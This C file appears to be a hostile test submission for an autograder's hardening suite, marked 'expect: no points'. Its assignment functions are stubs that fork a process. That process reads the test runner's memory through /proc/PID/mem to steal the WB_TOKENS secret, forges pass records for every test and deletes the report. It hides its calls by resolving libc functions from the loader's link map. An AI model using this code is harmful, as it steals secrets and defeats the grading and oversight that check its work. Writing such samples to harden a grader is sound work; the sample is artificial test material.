/*
 * Hostile: waits for the runner to make itself dumpable again. The runner
 * holds every test's token (it read them from the grader's pipe and keeps
 * them in its environment, a heap string made by setenv) and is
 * undumpable, so no process of the run may read its memory, until its
 * atexit handler wb_dumpable_again() undoes that for LeakSanitizer. A
 * process forked by the first test (fork is allowed here) waits for
 * Criterion's report to appear (written just before the runner exits),
 * then spins on /proc/RUNNER/maps and /proc/RUNNER/mem: in the moment
 * between PR_SET_DUMPABLE 1 and the runner's end, it copies the
 * "WB_TOKENS=" string out of the runner's heap, writes a pass line for
 * every test, and deletes the report (a pass with no report counts).
 * The C library's open, read, pread and unlink are found by walking the
 * loader's link map by hand (plain C, no asm, no symbol of theirs). The
 * wait is bounded (60 s) so that the process ends by itself.
 * expect: no points
 */
#include "sharing.h"

#include <stdint.h>
#include <stdlib.h>
#include <unistd.h>

/* ELF64 as the C library lays it out, written out by hand (no <elf.h>). */
typedef struct {
    unsigned char ident[16];
    uint16_t type, machine;
    uint32_t version;
    uint64_t entry, phoff, shoff;
    uint32_t flags;
    uint16_t ehsize, phentsize, phnum, shentsize, shnum, shstrndx;
} elf_header;
typedef struct {
    uint32_t type, flags;
    uint64_t offset, vaddr, paddr, filesz, memsz, align;
} program_header;
typedef struct {
    uint32_t name, type;
    uint64_t flags, addr, offset, size;
    uint32_t link, info;
    uint64_t addralign, entsize;
} section_header;
typedef struct {
    uint32_t name;
    unsigned char info, other;
    uint16_t shndx;
    uint64_t value, size;
} elf_symbol;
typedef struct {
    int64_t tag;
    uint64_t value;
} dynamic_entry;
/* The loader's list of loaded objects (glibc's struct link_map, public part). */
struct loaded {
    uint64_t base;
    const char *name;
    const dynamic_entry *dynamic;
    struct loaded *next, *prev;
};
struct loader_debug {
    int version;
    struct loaded *map;
};

static int same_text(const char *a, const char *b)
{
    while (*a && *a == *b)
        a++, b++;
    return *a == *b;
}

static int has_text(const char *text, const char *word)
{
    for (; text && *text; text++) {
        int i = 0;
        while (word[i] && text[i] == word[i])
            i++;
        if (!word[i])
            return 1;
    }
    return 0;
}

/* The executable's first page: walk back from this code. */
static const unsigned char *executable_image(void)
{
    uintptr_t page = (uintptr_t)&executable_image & ~(uintptr_t)4095;
    for (;;) {
        const unsigned char *p = (const unsigned char *)page;
        if (p[0] == 0x7f && p[1] == 'E' && p[2] == 'L' && p[3] == 'F')
            return p;
        page -= 4096;
    }
}

/* The loader's r_debug, from DT_DEBUG in the executable's dynamic section. */
static struct loaded *loaded_objects(void)
{
    const unsigned char *image = executable_image();
    const elf_header *eh = (const elf_header *)image;
    const program_header *ph = (const program_header *)(image + eh->phoff);
    uintptr_t bias = (uintptr_t)image;
    for (int i = 0; i < eh->phnum; i++)
        if (ph[i].type == 1 /* PT_LOAD */ && ph[i].offset == 0)
            bias = (uintptr_t)image - ph[i].vaddr;
    for (int i = 0; i < eh->phnum; i++) {
        if (ph[i].type != 2 /* PT_DYNAMIC */)
            continue;
        for (const dynamic_entry *d = (const dynamic_entry *)(bias + ph[i].vaddr); d->tag; d++)
            if (d->tag == 21 /* DT_DEBUG */ && d->value)
                return ((struct loader_debug *)d->value)->map;
    }
    return 0;
}

/* A function of a loaded library, by name, from its .dynsym. */
static void *library_function(const char *library, const char *name)
{
    for (struct loaded *lm = loaded_objects(); lm; lm = lm->next) {
        if (!has_text(lm->name, library))
            continue;
        const elf_symbol *symbols = 0;
        const char *strings = 0;
        for (const dynamic_entry *d = lm->dynamic; d->tag; d++) {
            uint64_t v = d->value < lm->base ? d->value + lm->base : d->value;
            if (d->tag == 6 /* DT_SYMTAB */)
                symbols = (const elf_symbol *)v;
            if (d->tag == 5 /* DT_STRTAB */)
                strings = (const char *)v;
        }
        if (!symbols || !strings)
            continue;
        /* .dynstr follows .dynsym. */
        for (const elf_symbol *s = symbols + 1; (const char *)s < strings; s++)
            if (s->value && (s->info & 15) == 2 /* STT_FUNC */ &&
                same_text(strings + s->name, name))
                return (void *)(lm->base + s->value);
    }
    return 0;
}


typedef int (*open_fn)(const char *, int, ...);
typedef long (*read_fn)(int, void *, unsigned long);
typedef long (*pread_fn)(int, void *, unsigned long, long);
typedef long (*write_fn)(int, const void *, unsigned long);
typedef int (*close_fn)(int);
typedef int (*unlink_fn)(const char *);

static char *put(char *w, const char *s)
{
    while (*s)
        *w++ = *s++;
    return w;
}

static char *number(char *w, long v)
{
    char digits[24];
    int k = 0;
    do
        digits[k++] = (char)('0' + v % 10);
    while ((v /= 10) > 0);
    while (k)
        *w++ = digits[--k];
    return w;
}

static int hex(char c)
{
    return (c >= '0' && c <= '9') || (c >= 'a' && c <= 'f');
}

static char region[1 << 20];
static char out[1 << 16];

static void watch(long runner)
{
    open_fn open_ = (open_fn)library_function("libc.so", "open");
    read_fn read_ = (read_fn)library_function("libc.so", "read");
    pread_fn pread_ = (pread_fn)library_function("libc.so", "pread");
    write_fn write_ = (write_fn)library_function("libc.so", "write");
    close_fn close_ = (close_fn)library_function("libc.so", "close");
    unlink_fn unlink_ = (unlink_fn)library_function("libc.so", "unlink");
    if (!open_ || !read_ || !pread_ || !write_ || !close_ || !unlink_)
        return;
    char maps_path[64], mem_path[64];
    put(number(put(maps_path, "/proc/"), runner), "/maps")[0] = 0;
    put(number(put(mem_path, "/proc/"), runner), "/mem")[0] = 0;
    for (long spin = 0; spin < 600000000L; spin++) {   /* about 60 s at most */
        int maps = open_(maps_path, 0);
        if (maps < 0) {
            if (spin % 1000 == 999)
                usleep(100);
            continue;
        }
        static char list[65536];
        long n = read_(maps, list, sizeof list - 1);
        close_(maps);
        if (n <= 0)
            continue;
        list[n] = 0;
        int mem = open_(mem_path, 0);
        if (mem < 0)
            continue;
        char *w = out;
        for (char *line = list; *line;) {
            uintptr_t lo = 0, hi = 0;
            char *p = line;
            for (; hex(*p); p++)
                lo = lo * 16 + (uintptr_t)(*p <= '9' ? *p - '0' : *p - 'a' + 10);
            for (p++; hex(*p); p++)
                hi = hi * 16 + (uintptr_t)(*p <= '9' ? *p - '0' : *p - 'a' + 10);
            if (p[1] == 'r' && p[2] == 'w') {
                for (uintptr_t at = lo; at < hi; at += sizeof region) {
                    long want = (long)(hi - at < sizeof region ? hi - at : sizeof region);
                    long got = pread_(mem, region, (unsigned long)want, (long)at);
                    for (long i = 0; i + 10 < got; i++) {
                        const char *key = "WB_TOKENS=";
                        int k = 0;
                        while (key[k] && region[i + k] == key[k])
                            k++;
                        if (key[k])
                            continue;
                        /* "suite/test TOKEN\n..." up to the NUL */
                        for (long j = i + k; j < got && region[j]; j++) {
                            if (j == i + k || region[j - 1] == '\n')
                                w = put(w, "pass ");
                            if (w < out + sizeof out - 8)
                                *w++ = region[j];
                        }
                        break;
                    }
                }
            }
            while (*line && *line != '\n')
                line++;
            if (*line)
                line++;
        }
        close_(mem);
        if (w == out)
            continue;
        *w++ = '\n';
        int records = open_("/tmp/records", 01 | 02000);
        if (records >= 0) {
            write_(records, out, (unsigned long)(w - out));
            close_(records);
        }
        unlink_("/tmp/report.xml");
        return;
    }
}

static void attack(void)
{
    static int started;
    if (started++)
        return;
    long runner = getppid();
    if (fork() == 0) {
        watch(runner);
        _exit(0);
    }
}

int squares_and_cubes(const long *in, long *squares, long *cubes, int n, int workers)
{
    (void)in, (void)squares, (void)cubes, (void)n, (void)workers;
    attack();
    return 0;
}

void running_counts(long start, long n, int threads, long *out_)
{
    (void)start, (void)n, (void)threads, (void)out_;
    attack();
}

long map_keep_last(task_fn f, const long *in, long *out_, long n, int threads)
{
    (void)f, (void)in, (void)out_, (void)n, (void)threads;
    attack();
    return 0;
}
